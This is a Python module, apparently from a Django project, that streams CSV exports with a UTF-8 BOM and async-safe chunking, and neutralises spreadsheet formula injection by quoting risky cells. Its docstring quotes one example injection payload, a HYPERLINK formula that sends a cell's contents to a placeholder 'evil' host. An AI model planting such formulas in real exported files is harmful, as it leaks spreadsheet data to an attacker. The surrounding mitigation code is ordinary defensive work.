"""CSV downloads that stream: whatever the number of rows, memory stays flat (a bounded buffer of encoded rows,
handed to the server chunk by chunk), and the file opens in a spreadsheet as it was meant.

- UTF-8 with a byte-order mark: Excel reads a BOM-less CSV in the machine's legacy code page (Zoë → ZoÃ«).
- The `csv` module's Excel dialect: CRLF line ends, a cell quoted when it holds a comma, a quote (doubled) or a
  line break, so a note's body with all three is one cell.
- Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (and,
  in some, a tab or carriage return) as a formula, e.g. `=HYPERLINK("http://evil/?"&A1, "click")`. Such a text
  cell is written with a leading single quote (`'=...`), which spreadsheets show as text. The cost: an exported
  text that really began with one of those characters (`- a bullet`) reads with the quote in front.
- Under ASGI (daphne) Django buffers a *synchronous* iterator entirely before sending it (Django 5.2,
  `StreamingHttpResponse.__aiter__`): the response then iterates asynchronously, fetching each chunk in the
  request's thread (where its database connection and server-side cursor live)."""

import codecs
import csv
import io
from collections.abc import AsyncIterator, Iterable, Iterator

from asgiref.sync import sync_to_async
from django.core.handlers.asgi import ASGIRequest
from django.http import StreamingHttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CHUNK_BYTES = 60 * 1024  # a chunk of whole rows, about what Django's ASGI handler sends per message (64 KiB)


def safe_cell(value):
    """A cell a spreadsheet shows as written: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_chunks(header: Iterable[str], rows: Iterable[Iterable], *, chunk_bytes: int = CHUNK_BYTES) -> Iterator[bytes]:
    """The CSV file as UTF-8 chunks of about `chunk_bytes` (a row is never split across two buffers, so a chunk
    can exceed it by one row): a BOM, the header, then the rows, each cell through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)  # the "excel" dialect
    buffer.write(codecs.BOM_UTF8.decode())
    writer.writerow(header)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
        if buffer.tell() >= chunk_bytes:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()


def csv_response(request, chunks: Iterator[bytes], *, filename: str) -> StreamingHttpResponse:
    """A streamed `text/csv` attachment named `filename` (ASCII: the caller makes it)."""
    django_request = getattr(request, "_request", request)  # a DRF request wraps Django's
    content = _async_chunks(chunks) if isinstance(django_request, ASGIRequest) else chunks
    return StreamingHttpResponse(
        content,
        content_type="text/csv; charset=utf-8",
        headers={"Content-Disposition": f'attachment; filename="{filename}"', "Cache-Control": "no-store"},
    )


async def _async_chunks(chunks: Iterator[bytes]) -> AsyncIterator[bytes]:
    # thread_sensitive: every chunk is fetched in the one thread that ran the view, whose connection holds the
    # cursor; a client that goes away closes the generator (and its cursor) in that thread too.
    next_chunk = sync_to_async(next, thread_sensitive=True)
    try:
        while (chunk := await next_chunk(chunks, None)) is not None:
            yield chunk
    finally:
        close = getattr(chunks, "close", None)
        if close is not None:
            await sync_to_async(close, thread_sensitive=True)()
